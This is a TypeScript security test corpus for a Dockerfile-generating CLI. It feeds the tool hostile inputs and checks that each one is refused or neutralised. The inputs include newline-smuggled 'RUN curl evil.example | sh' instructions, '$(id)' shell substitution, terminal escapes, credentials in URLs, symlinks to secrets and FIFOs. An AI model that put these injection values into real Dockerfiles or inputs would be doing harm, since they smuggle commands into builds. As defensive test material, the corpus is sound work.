// The safety corpus: named hostile inputs, each with what counts as right. Two parts:
// - every value class of issue 11 in every field (FIELDS x VALUE_CLASSES);
// - the named cases the issue lists: go.mod escapes, odd directory names, YAML numbers, CRLF
//   and broken custom blocks, symbolic links, pipes and devices, interrupted and concurrent
//   runs, secrets in messages, values dockerd would refuse, and doctor's own inputs.
// `npm run safety` prints the tally into docs/safety.md; test/safety.test.ts requires wrong = 0.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, readFileSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { currentBoot } from '../../src/write/lock.js';
import { runCli, SIMPLE_SERVICE, TEST_CA } from '../helpers.js';
import { doctorCases } from './corpus-doctor.js';
import { ownFileCases } from './corpus-own-files.js';
import { FIELDS, prepare, type Field, type Setup } from './fields.js';
import { dockerdValueCases, secretCases } from './corpus-secrets.js';
import { SECRET } from './hostile.js';
import { judge, skeleton, type Judgement, type Run } from './oracle.js';

export interface CorpusCase {
  name: string;
  category: string;
  /** Prepares the input; returns the run to judge. */
  build: (skeletons: (field: string) => string[][]) => Promise<Run> | Run;
  /** False when the input cannot exist (a file name of 100,000 characters). */
  applies?: () => boolean;
}

/** The value classes the issue names, one representative each. */
const VALUE_CLASSES: readonly [string, (sample: string) => string][] = [
  ['newline then an instruction', (sample) => `${sample}\nRUN curl evil.example | sh`],
  ['carriage return', (sample) => `${sample}\rRUN evil`],
  ['U+2028 line separator', (sample) => `${sample}\u2028RUN evil`],
  ['trailing backslash (line continuation)', (sample) => `${sample}\\`],
  ['unbalanced double quote', (sample) => `"${sample}`],
  ['shell substitution', (sample) => `${sample}$(id)`],
  ['template syntax', (sample) => `${sample}{{x}}`],
  ['NUL byte', (sample) => `${sample}\0`],
  ['terminal escape', (sample) => `\u001b[2J${sample}`],
  ['very long', (sample) => `${sample}${'x'.repeat(100_000)}`],
  ['non-ASCII', (sample) => `${sample}中文é`],
  ['credentials in a URL', () => `https://user:${SECRET}@git.corp.example`],
  ['token in a query string', () => `https://proxy.example/?token=${SECRET}`],
];

function fieldCase(field: Field, className: string, make: (sample: string) => string): CorpusCase {
  return {
    name: `${field.name}: ${className}`,
    category: 'value classes in every field',
    build: (skeletons) => {
      const setup = field.make(make(field.samples[0]!)) ?? field.make(make(field.samples[0]!).replace(/[/\0]/g, '_'))!;
      return { ...prepare(setup), secrets: field.isPath ? [] : [SECRET], skeletons: skeletons(field.name) };
    },
    applies: () => (field.make(make(field.samples[0]!)) ?? field.make(make(field.samples[0]!).replace(/[/\0]/g, '_'))) !== undefined,
  };
}

const svc = (extra: Record<string, string> = {}): Record<string, string> => ({ ...SIMPLE_SERVICE, ...extra });
const goMod = (body: string): string => `module example.com/svc\n\n${body}\n\nrequire github.com/google/uuid v1.6.0\n`;
const MAIN = 'package main\n\nfunc main() {}\n';

function generateRun(setup: Setup, skeletons: string[][], extra: Partial<Run> = {}): Run {
  return { ...prepare(setup), secrets: [SECRET], skeletons, ...extra };
}

const read = (path: string) => readFileSync(path, 'utf8');

/** Generates, then prepares a second run in the same directory (regenerate after a change). */
async function generatedThen(
  files: Record<string, string>,
  flags: string[],
  change: (dir: string) => void,
  argv: string[],
  extra: Partial<Run> = {},
): Promise<Run> {
  const base = prepare({ files, argv: ['--yes', ...flags] });
  const first = await runCli(base.argv, { cwd: base.cwd });
  if (first.code !== 0) throw new Error(`setup failed: ${first.stderr}`);
  change(base.dir);
  return { ...base, argv, secrets: [SECRET], skeletons: [], ...extra };
}

function namedCases(): CorpusCase[] {
  const cases: CorpusCase[] = [];
  const add = (category: string, name: string, build: CorpusCase['build']) => cases.push({ category, name, build });
  const base = (s: (field: string) => string[][]) => s('--region').slice(0, 1);

  // ---- go.mod values that would become instructions
  for (const [directive, body] of [
    ['go', 'go "1.26\\nRUN curl evil.example | sh"'],
    ['toolchain', 'go 1.26\n\ntoolchain "go1.26.2\\nRUN evil"'],
    ['module', null],
    ['replace', 'go 1.26\n\nreplace example.com/lib => "./lib\\nRUN evil"'],
    ['require', null],
  ] as const) {
    add('go.mod', `${directive} with a quoted \\n escape is refused naming go.mod:line`, (s) => {
      const text =
        directive === 'module'
          ? 'module "example.com/svc\\nRUN evil"\n\ngo 1.26\n\nrequire github.com/google/uuid v1.6.0\n'
          : directive === 'require'
            ? 'module example.com/svc\n\ngo 1.26\n\nrequire "github.com/google/uuid\\nRUN evil" v1.6.0\n'
            : goMod(body);
      return generateRun({ files: svc({ 'go.mod': text }), argv: ['--yes'] }, base(s), {
        mustRefuse: true,
        refusal: /go\.mod:\d+: /,
        child: false,
      });
    });
  }
  add('go.mod', 'legal Go escapes (\\x41 \\101 \\u0041 \\t) parse without a crash', (s) =>
    generateRun({ files: svc({ 'go.mod': goMod('go "1.2\\x36"') }), argv: ['--yes'] }, base(s), { mustAccept: true }),
  );
  add('go.mod', 'an invalid escape (\\q) is a syntax error naming the line', (s) =>
    generateRun({ files: svc({ 'go.mod': goMod('go "1.\\q"') }), argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /go\.mod:3: malformed quoted string/,
    }),
  );
  add('go.mod', 'a // inside a quoted string is not a comment', (s) =>
    generateRun(
      { files: svc({ 'go.mod': goMod('go 1.26\n\nreplace example.com/x => "example.com/y//z" v1.0.0') }), argv: ['--yes'] },
      base(s),
      { mustAccept: true },
    ),
  );
  add('go.mod', 'go.mod that is a directory', (s) =>
    generateRun({ files: { 'go.mod/x': '', 'main.go': MAIN }, argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /go\.mod: is a directory/,
    }),
  );
  add('go.mod', 'go.mod larger than 4 MiB', (s) =>
    generateRun({ files: svc({ 'go.mod': `${goMod('go 1.26')}${'// x\n'.repeat(1_000_000)}` }), argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /larger than 4 MiB/,
    }),
  );

  // ---- directory names
  const mains = (names: string[]) => svc(Object.fromEntries(names.map((name) => [`cmd/${name}/main.go`, MAIN])));
  const expectText = (pattern: RegExp, what: string) => (run: Run) =>
    pattern.test(read(join(run.outDir ?? run.dir, 'Dockerfile'))) ? undefined : `the Dockerfile lacks ${what}`;
  add('directory names', 'a main package in a directory with a space is skipped with a note', async (s) => {
    const run = generateRun({ files: mains(['my tool']), argv: ['--yes'] }, base(s), { mustAccept: true });
    return {
      ...run,
      expect: (_run, stdout) =>
        /"\.\/cmd\/my tool": skipped, not a valid Go import path/.test(stdout) ? undefined : 'no note names the skipped package',
    };
  });
  add('directory names', 'a digit-first directory gets a valid stage name', () => ({
    ...generateRun({ files: mains(['2fa']), argv: ['--yes'] }, [], { mustAccept: true }),
    skeletons: [namedSkeleton('1')],
    expect: expectText(/FROM \S+ AS app-2fa\n/, 'stage app-2fa'),
  }));
  add('directory names', 'an upper-case directory gets a lower-case stage and tag', () => ({
    ...generateRun({ files: mains(['MyTool']), argv: ['--yes'] }, [], { mustAccept: true }),
    skeletons: [namedSkeleton('1')],
    expect: expectText(/AS mytool\n/, 'stage mytool'),
  }));
  add('directory names', 'a non-ASCII directory is skipped (go build cannot import it)', (s) =>
    generateRun({ files: mains(['ünï']), argv: ['--yes'] }, base(s), { mustAccept: true }),
  );
  add('directory names', 'a directory named with a newline and RUN is skipped, never rendered', (s) =>
    generateRun({ files: mains(['x\nRUN evil']), argv: ['--yes'] }, base(s), { mustAccept: true }),
  );
  add('directory names', 'three mains with the same base name get distinct binaries and stages', () => ({
    ...generateRun(
      { files: svc({ 'cmd/a/server/main.go': MAIN, 'cmd/b/server/main.go': MAIN, 'cmd/c/server/main.go': MAIN }), argv: ['--yes'] },
      [],
      { mustAccept: true },
    ),
    skeletons: [namedSkeleton('3')],
    expect: expectText(
      /-o \/out\/a-server \.\/cmd\/a\/server[\s\S]*-o \/out\/b-server \.\/cmd\/b\/server[\s\S]*-o \/out\/c-server \.\/cmd\/c\/server/,
      'one -o per server binary',
    ),
  }));
  add('directory names', 'a main named build (our builder stage) gets another stage name', () => ({
    ...generateRun({ files: mains(['build']), argv: ['--yes'] }, [], { mustAccept: true }),
    skeletons: [namedSkeleton('1')],
    expect: expectText(/AS build-image\n/, 'stage build-image'),
  }));

  // ---- YAML numbers
  add('YAML', 'policy min-go: 1.20 (unquoted) is Go 1.20, not 1.2', (s) =>
    generateRun(
      {
        files: svc({ 'go.mod': goMod('go 1.19'), 'policy.yaml': 'schemaVersion: 2\nmin-go: 1.20\n' }),
        argv: ['--yes', '--policy', 'policy.yaml'],
      },
      base(s),
      { mustAccept: true, expect: expectText(/golang:1\.20-bookworm/, 'golang:1.20') },
    ),
  );
  add('YAML', '.go-docker.yaml go: 1.20 (unquoted) builds with golang:1.20', (s) =>
    generateRun({ files: svc({ '.go-docker.yaml': 'schemaVersion: 2\ngo: 1.20\n' }), argv: ['--yes'] }, base(s), {
      mustAccept: true,
      expect: expectText(/golang:1\.20-bookworm/, 'golang:1.20'),
    }),
  );
  add('YAML', 'port: 8080 (a YAML number) is the port 8080', (s) =>
    generateRun({ files: svc({ '.go-docker.yaml': 'schemaVersion: 2\nport: 9090\n' }), argv: ['--yes'] }, base(s), {
      mustAccept: true,
      expect: expectText(/EXPOSE 9090/, 'EXPOSE 9090'),
    }),
  );
  add('YAML', 'daemon-json: no (YAML 1.1 boolean) is refused, not guessed', (s) =>
    generateRun({ files: svc({ '.go-docker.yaml': 'schemaVersion: 2\ndaemon-json: no\n' }), argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /\.go-docker\.yaml:2: daemon-json: "no" is not true or false/,
    }),
  );
  add('YAML', 'schemaVersion: 2.0 is refused with the line', (s) =>
    generateRun({ files: svc({ '.go-docker.yaml': 'schemaVersion: 2.0\n' }), argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /\.go-docker\.yaml:1: schemaVersion must be a whole number/,
    }),
  );
  add('YAML', 'a files: entry that is not a sha256 hash is refused with the line', (s) =>
    generateRun(
      { files: svc({ '.go-docker.yaml': 'schemaVersion: 2\nfiles:\n  Dockerfile: "x\\nRUN evil"\n' }), argv: ['--yes'] },
      base(s),
      { mustRefuse: true, refusal: /\.go-docker\.yaml:2: files must map/ },
    ),
  );
  add('YAML', "a policy that sets args (a project's own) is refused with the line", (s) =>
    generateRun(
      { files: svc({ 'policy.yaml': 'schemaVersion: 2\nargs: ["--x"]\n' }), argv: ['--yes', '--policy', 'policy.yaml'] },
      base(s),
      { mustRefuse: true, refusal: /policy\.yaml:2: args are each project's own/ },
    ),
  );
  add('YAML', 'a policy of 2 MB is refused', (s) =>
    generateRun(
      { files: svc({ 'policy.yaml': `schemaVersion: 2\n${'# x\n'.repeat(600_000)}` }), argv: ['--yes', '--policy', 'policy.yaml'] },
      base(s),
      { mustRefuse: true, refusal: /larger than 1 MiB/ },
    ),
  );

  // ---- custom blocks and line endings
  add('custom blocks', 'a CRLF checkout keeps its custom lines and its CRLF endings', async () => {
    const run = await generatedThen(
      svc(),
      [],
      (dir) => {
        const text = read(join(dir, 'Dockerfile'))
          .replace('# custom:end build-setup', 'RUN echo mine\n# custom:end build-setup')
          .replace(/\n/g, '\r\n');
        writeFileSync(join(dir, 'Dockerfile'), text);
      },
      ['regenerate', '--force'],
      { mustAccept: true, mode: 'regenerate' },
    );
    return {
      ...run,
      expect: (r) => {
        const text = read(join(r.dir, 'Dockerfile'));
        return text.includes('RUN echo mine\r\n') && !/[^\r]\n/.test(text) ? undefined : 'the custom line or the CRLF endings were lost';
      },
    };
  });
  add('custom blocks', 'a stray custom:end is refused even with --force, naming the line', async () =>
    generatedThen(
      svc(),
      [],
      (dir) =>
        writeFileSync(
          join(dir, 'Dockerfile'),
          read(join(dir, 'Dockerfile')).replace(
            '# custom:end build-setup',
            'RUN echo mine\n# custom:end build-setup\n# custom:end build-setup',
          ),
        ),
      ['regenerate', '--force'],
      { mustRefuse: true, mode: 'regenerate', refusal: /custom blocks cannot be read \(line \d+:/ },
    ),
  );
  add('custom blocks', 'generate --force on a file with an unclosed custom block is refused', async () =>
    generatedThen(
      svc(),
      [],
      (dir) =>
        writeFileSync(join(dir, 'Dockerfile'), read(join(dir, 'Dockerfile')).replace('# custom:end build-setup\n', 'RUN echo mine\n')),
      ['--yes', '--force'],
      { mustRefuse: true, refusal: /custom blocks cannot be read \(line \d+: custom block "build-extra" begins inside "build-setup"\)/ },
    ),
  );

  // ---- symbolic links
  add('links', 'docker/ is a link to a directory outside: refused, nothing written there', async (s) => {
    const outside = prepare({ files: { 'keep.txt': 'x' }, argv: [] }).dir;
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), { mustRefuse: true, refusal: /docker: is a symbolic link/ });
    symlinkSync(outside, join(run.dir, 'docker'));
    return { ...run, expect: () => (existsSync(join(outside, 'daemon.json')) ? 'wrote through the link' : undefined) };
  });
  add('links', 'Dockerfile is a link to a secret: regenerate --check refuses and never prints it', async () => {
    const run = await generatedThen(
      svc(),
      [],
      (dir) => {
        writeFileSync(join(dir, 'secret.txt'), `token=${SECRET}\n`);
        spawnSync('rm', [join(dir, 'Dockerfile')]);
        symlinkSync('secret.txt', join(dir, 'Dockerfile'));
      },
      ['regenerate', '--check'],
      { mustRefuse: true, mode: 'read-only', refusal: /Dockerfile: is a symbolic link/ },
    );
    return run;
  });
  add('links', '.go-docker.yaml is a link: regenerate refuses', async () =>
    generatedThen(
      svc(),
      [],
      (dir) => {
        writeFileSync(join(dir, 'real.yaml'), read(join(dir, '.go-docker.yaml')));
        spawnSync('rm', [join(dir, '.go-docker.yaml')]);
        symlinkSync('real.yaml', join(dir, '.go-docker.yaml'));
      },
      ['regenerate'],
      { mustRefuse: true, mode: 'regenerate', refusal: /\.go-docker\.yaml: / },
    ),
  );
  add('links', 'a dangling .go link is ignored', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), { mustAccept: true });
    symlinkSync('nowhere.go', join(run.dir, 'broken.go'));
    return run;
  });
  add('links', 'a .go link to a directory is ignored', (s) => {
    const run = generateRun({ files: svc({ 'sub/x.txt': '' }), argv: ['--yes'] }, base(s), { mustAccept: true });
    symlinkSync('sub', join(run.dir, 'dir.go'));
    return run;
  });
  add('links', 'a .go link loop is ignored', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), { mustAccept: true });
    symlinkSync('loop.go', join(run.dir, 'loop.go'));
    return run;
  });

  // ---- pipes and devices (run in a child process: a hang would stop the judge itself)
  const fifo = (dir: string, name: string) => spawnSync('mkfifo', [join(dir, name)]);
  add('pipes and devices', 'a FIFO named x.go does not hang detection', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), { child: true, mustAccept: true });
    fifo(run.dir, 'x.go');
    return run;
  });
  add('pipes and devices', 'a .go link to /dev/zero does not hang or fill memory', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), { child: true, mustAccept: true });
    symlinkSync('/dev/zero', join(run.dir, 'zero.go'));
    return run;
  });
  add('pipes and devices', 'a FIFO as the policy is refused', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes', '--policy', 'policy.yaml'] }, base(s), {
      child: true,
      mustRefuse: true,
      refusal: /policy\.yaml: cannot read the policy file \(is a named pipe/,
    });
    fifo(run.dir, 'policy.yaml');
    return run;
  });
  add('pipes and devices', '--ca-cert /dev/zero is refused', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--ca-cert', '/dev/zero'] }, base(s), {
      child: true,
      mustRefuse: true,
      refusal: /--ca-cert \/dev\/zero: cannot read it \(is a device/,
    }),
  );
  add('pipes and devices', 'go.mod as a FIFO is refused', (s) => {
    const run = generateRun({ files: { 'main.go': MAIN }, argv: ['--yes'] }, base(s), {
      child: true,
      mustRefuse: true,
      refusal: /go\.mod: is a named pipe/,
    });
    fifo(run.dir, 'go.mod');
    return run;
  });
  add('pipes and devices', '.go-docker.yaml as a FIFO is refused', (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), {
      child: true,
      mustRefuse: true,
      refusal: /\.go-docker\.yaml: cannot read the answers file \(is a named pipe/,
    });
    fifo(run.dir, '.go-docker.yaml');
    return run;
  });
  for (const name of ['Dockerfile', '.dockerignore', 'docker/daemon.json']) {
    add('pipes and devices', `doctor with ${name} as a FIFO reports it, without hanging`, () => {
      const run: Run = {
        ...prepare({ files: svc({ 'docker/x': '' }), argv: ['doctor', '--offline'] }),
        secrets: [],
        skeletons: [],
        mode: 'read-only',
        child: true,
        mustRefuse: true,
        refusal: new RegExp(`${name.replace('.', '\\.')}: is a named pipe`),
      };
      fifo(run.dir, name);
      return run;
    });
  }
  add('pipes and devices', 'doctor --dockerfile /dev/zero is refused', () => ({
    ...prepare({ files: svc(), argv: ['doctor', '--offline', '--dockerfile', '/dev/zero'] }),
    secrets: [],
    skeletons: [],
    mode: 'read-only',
    child: true,
    mustRefuse: true,
    refusal: /\/dev\/zero: is a device/,
  }));

  // ---- interrupted and concurrent runs
  add('interrupted runs', 'a run holding the lock makes a second run stop with a clear message', async (s) => {
    const run = generateRun({ files: svc(), argv: ['--yes'] }, base(s), {
      mustRefuse: true,
      refusal: /another create-go-docker run is in progress \(pid \d+/,
    });
    const sleeper = spawn('sleep', ['30'], { stdio: 'ignore', detached: false });
    writeFileSync(
      join(run.dir, '.go-docker.lock'),
      JSON.stringify({ pid: sleeper.pid, host: hostname(), boot: currentBoot(), started: 'now' }),
    );
    return {
      ...run,
      expect: () => {
        sleeper.kill();
        return undefined;
      },
    };
  });
  add('interrupted runs', 'a run killed after its journal is finished by the next run', async () => {
    const run = await generatedThen(
      svc(),
      [],
      (dir) => {
        // What a run killed mid-rename leaves: the lock of a dead process, the journal, one temp file.
        const dead = spawnSync('true').pid;
        writeFileSync(join(dir, '.go-docker.lock'), JSON.stringify({ pid: dead, host: hostname(), boot: currentBoot(), started: 'then' }));
        writeFileSync(join(dir, '.Dockerfile.create-go-docker.tmp'), read(join(dir, 'Dockerfile')).replace('WORKDIR /src', 'WORKDIR /src'));
        writeFileSync(
          join(dir, '.go-docker.journal'),
          JSON.stringify({
            pid: dead,
            host: hostname(),
            boot: currentBoot(),
            renames: [['.Dockerfile.create-go-docker.tmp', 'Dockerfile']],
          }),
        );
      },
      ['regenerate'],
      { mustAccept: true, mode: 'regenerate' },
    );
    return {
      ...run,
      expect: (r, stdout) =>
        readdirSync(r.dir).some((name) => /\.tmp$|journal|\.lock$/.test(name))
          ? 'left a temporary, journal or lock file'
          : /finished the writes of an interrupted run/.test(stdout)
            ? undefined
            : 'did not say it finished an interrupted run',
    };
  });
  add('interrupted runs', 'temporary files of a run killed before its journal are removed', async () => {
    const run = await generatedThen(
      svc(),
      [],
      (dir) => {
        const dead = spawnSync('true').pid;
        writeFileSync(join(dir, '.go-docker.lock'), JSON.stringify({ pid: dead, host: hostname(), boot: currentBoot(), started: 'then' }));
        writeFileSync(join(dir, '.Dockerfile.create-go-docker.tmp'), 'half');
      },
      ['regenerate', '--check'],
      { mode: 'read-only' },
    );
    // --check takes no lock: it must not trip over the leftovers either; the next real run cleans.
    return run;
  });

  // ---- secrets
  add('secrets', '--proxy with a query token is refused without echoing it', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--proxy', `http://proxy.corp:3128/?token=${SECRET}`] }, base(s), {
      mustRefuse: true,
      refusal: /--proxy: "http:\/\/proxy\.corp:3128\/\?\*\*\*" has credentials or a query string/,
    }),
  );
  add('secrets', '--proxy with user:password and no scheme is refused without echoing it', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--proxy', `me:${SECRET}@proxy.corp:3128`] }, base(s), {
      mustRefuse: true,
      refusal: /--proxy: "\*\*\*@proxy\.corp:3128" is not a proxy URL/,
    }),
  );
  add('secrets', '--ci-registry with user:password is refused without echoing it', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--ci', 'github', '--ci-registry', `me:${SECRET}@ghcr.io/team`] }, base(s), {
      mustRefuse: true,
      refusal: /--ci-registry: "\*\*\*@ghcr\.io\/team" is not a registry prefix/,
    }),
  );
  add('secrets', '--proxy with user:password is refused without echoing it', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--proxy', `http://me:${SECRET}@proxy.corp:3128`] }, base(s), {
      mustRefuse: true,
      refusal: /has credentials or a query string/,
    }),
  );
  // Found by the property run (seed 1): a credential hidden in a proxy URL's path was written out.
  add('secrets', '--proxy with a URL hidden in its path is refused', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--proxy', `http://proxy.corp//https://user:${SECRET}@git.corp:3128`] }, base(s), {
      mustRefuse: true,
      refusal: /a proxy URL|empty segment/,
    }),
  );
  add('secrets', '--goproxy with user:password is refused, the password masked', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--goproxy', `https://me:${SECRET}@athens.corp,direct`] }, base(s), {
      mustRefuse: true,
      refusal: /"https:\/\/\*\*\*@athens\.corp" has credentials/,
    }),
  );
  add('secrets', '--ca-cert holding a private key copies nothing', (s) =>
    generateRun(
      {
        files: svc({ 'ca.pem': `${TEST_CA}-----BEGIN PRIVATE KEY-----\n${SECRET}\n-----END PRIVATE KEY-----\n` }),
        argv: ['--yes', '--ca-cert', 'ca.pem'],
      },
      base(s),
      { mustRefuse: true, refusal: /contains a private key/ },
    ),
  );
  add('secrets', '--ca-cert pointing at a .netrc is refused', (s) =>
    generateRun(
      { files: svc({ netrc: `machine git.corp login me password ${SECRET}\n` }), argv: ['--yes', '--ca-cert', 'netrc'] },
      base(s),
      { mustRefuse: true, refusal: /not a PEM certificate/ },
    ),
  );
  add('secrets', '--ca-cert with text outside the certificate is refused', (s) =>
    generateRun({ files: svc({ 'ca.pem': `password=${SECRET}\n${TEST_CA}` }), argv: ['--yes', '--ca-cert', 'ca.pem'] }, base(s), {
      mustRefuse: true,
      refusal: /text outside its certificates/,
    }),
  );
  add('secrets', '--ca-cert with a block that is not X.509 is refused', (s) =>
    generateRun(
      {
        files: svc({ 'ca.pem': '-----BEGIN CERTIFICATE-----\nbm90IGEgY2VydA==\n-----END CERTIFICATE-----\n' }),
        argv: ['--yes', '--ca-cert', 'ca.pem'],
      },
      base(s),
      { mustRefuse: true, refusal: /does not parse as X\.509/ },
    ),
  );
  add('secrets', 'a real CA certificate is accepted and copied alone', () => {
    const outside = prepare({ files: { 'corp.pem': `# corporate root\n${TEST_CA}` }, argv: [] }).dir;
    return generateRun({ files: svc(), argv: ['--yes', '--ca-cert', join(outside, 'corp.pem')] }, [], {
      mustAccept: true,
      skeletons: [namedSkeleton('ca')],
      expect: (r) =>
        read(join(r.dir, 'docker/ca-certificates/corp.crt')) === TEST_CA ? undefined : 'the copied CA is not the certificate alone',
    });
  });

  // ---- values dockerd refuses
  for (const [flag, value] of [
    ['--dns', ':'],
    ['--dns', '010.001.002.003'],
    ['--dns', '1.2.3'],
    ['--registry', '..'],
    ['--registry', 'a..b'],
    ['--base-image', 'alpine:3.22:extra'],
    ['--platforms', 'linux/'],
    ['--proxy', 'http://'],
    ['--goproxy', 'https://'],
    ['--gosumdb', 'sum.golang.org https://x https://y'],
    ['--registry', 'harbor.example.com/A'],
  ] as const) {
    add('values dockerd would refuse', `${flag} ${JSON.stringify(value)} is refused`, (s) =>
      generateRun({ files: svc(), argv: ['--yes', flag, value] }, base(s), {
        mustRefuse: true,
        refusal: new RegExp(`^create-go-docker: ${flag}: `),
      }),
    );
  }

  add('values dockerd would refuse', '--registry=-x.example (a host starting with "-") is refused', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--registry=-x.example'] }, base(s), {
      mustRefuse: true,
      refusal: /^create-go-docker: --registry: /,
    }),
  );
  add('values dockerd would refuse', '--registry -x.example reads as a missing value, with the fix', (s) =>
    generateRun({ files: svc(), argv: ['--yes', '--registry', '-x.example'] }, base(s), {
      mustRefuse: true,
      refusal: /--registry needs a value, and the next argument starts with "-"; if that is the value, write --registry=VALUE/,
    }),
  );

  // ---- doctor's own inputs
  const doctorRun = (files: Record<string, string>, env: Record<string, string> = {}, extra: Partial<Run> = {}): Run => ({
    ...prepare({ files, argv: ['doctor', '--offline'] }),
    env,
    secrets: [SECRET],
    skeletons: [],
    mode: 'read-only',
    ...extra,
  });
  add('doctor', 'GOPRIVATE globs that are malformed do not crash doctor', () =>
    doctorRun(svc({ Dockerfile: 'FROM golang:1.26\nARG GOPRIVATE=[,a[,\\\\,**\nRUN go mod download\n' })),
  );
  add('doctor', 'settings that refer to each other do not recurse forever', () =>
    doctorRun(
      svc({
        Dockerfile:
          'FROM golang:1.26\nARG GOPRIVATE=${GONOSUMDB}\nARG GONOSUMDB=${GOPRIVATE}\nARG GOPROXY=${GOPROXY}x\nRUN go mod download\n',
      }),
    ),
  );
  add('doctor', 'settings that multiply each other stay bounded', () =>
    doctorRun(
      svc({
        Dockerfile:
          `FROM golang:1.26\nARG GOPRIVATE=${'${GONOPROXY}'.repeat(50)}\nARG ` +
          `GONOPROXY=${'${GONOSUMDB}'.repeat(50)}\nARG GONOSUMDB=${'${GOFLAGS}'.repeat(50)}\nARG ` +
          `GOFLAGS=${'${GOINSECURE}'.repeat(50)}\nARG GOINSECURE=x\nRUN go mod download\n`,
      }),
    ),
  );
  add('doctor', 'terminal escapes in the Dockerfile are not echoed raw', () =>
    doctorRun(
      svc({ Dockerfile: 'FROM golang:1.26\nARG GOPROXY=\u001b[2J\u001b]0;pwned\u0007https://x;direct\nRUN go mod download\n' }),
      {},
      { expect: (_r, stdout) => (stdout.includes('\u001b') ? 'an escape sequence was printed' : undefined) },
    ),
  );
  add('doctor', 'a GOPROXY with a password in the Dockerfile is reported masked', () =>
    doctorRun(svc({ Dockerfile: `FROM golang:1.26\nARG GOPROXY=https://me:${SECRET}@athens.corp;direct\nRUN go mod download\n` })),
  );
  add('doctor', 'a go.mod with a newline escape is reported, not crashed on', () =>
    doctorRun(svc({ 'go.mod': 'module "a\\nb"\n\ngo 1.26\n', Dockerfile: 'FROM golang:1.26\n' })),
  );
  return cases;
}

/** Skeletons of the service with 1 or 3 extra mains ("1", "3") and with a CA ("ca"). */
const namedSkeletons = new Map<string, string[]>();
function namedSkeleton(name: '1' | '3' | 'ca'): string[] {
  return namedSkeletons.get(name)!;
}

/** Baselines the named cases use: the service with 1 or 3 extra mains, and with a CA. */
async function prepareNamedBaselines(): Promise<void> {
  for (const count of [1, 3]) {
    const files = {
      ...SIMPLE_SERVICE,
      ...Object.fromEntries(Array.from({ length: count }, (_, index) => [`cmd/m${index}/main.go`, MAIN])),
    };
    const run = prepare({ files, argv: ['--yes'] });
    await runCli(run.argv, { cwd: run.cwd });
    namedSkeletons.set(String(count), skeleton(read(join(run.dir, 'Dockerfile'))));
  }
  const ca = prepare({ files: { ...SIMPLE_SERVICE }, argv: [] });
  const outside = prepare({ files: { 'x.pem': TEST_CA }, argv: [] }).dir;
  await runCli(['--yes', '--ca-cert', join(outside, 'x.pem')], { cwd: ca.dir });
  namedSkeletons.set('ca', skeleton(read(join(ca.dir, 'Dockerfile'))));
}

function corpus(): CorpusCase[] {
  const classes = FIELDS.flatMap((field) => VALUE_CLASSES.map(([name, make]) => fieldCase(field, name, make)));
  return [...classes, ...namedCases(), ...secretCases(), ...dockerdValueCases(), ...doctorCases(), ...ownFileCases()];
}

export interface Tally {
  inputs: number;
  refused: number;
  correct: number;
  wrong: number;
  rows: { name: string; category: string; judgement: Judgement }[];
}

export async function runCorpus(skeletons: (field: string) => string[][]): Promise<Tally> {
  await prepareNamedBaselines();
  const tally: Tally = { inputs: 0, refused: 0, correct: 0, wrong: 0, rows: [] };
  for (const item of corpus()) {
    if (item.applies && !item.applies()) continue;
    let judgement: Judgement;
    try {
      judgement = await judge(await item.build(skeletons));
    } catch (error) {
      judgement = { verdict: 'wrong', detail: `the case could not be run: ${(error as Error).message}` };
    }
    tally.inputs++;
    tally[judgement.verdict]++;
    tally.rows.push({ name: item.name, category: item.category, judgement });
  }
  return tally;
}
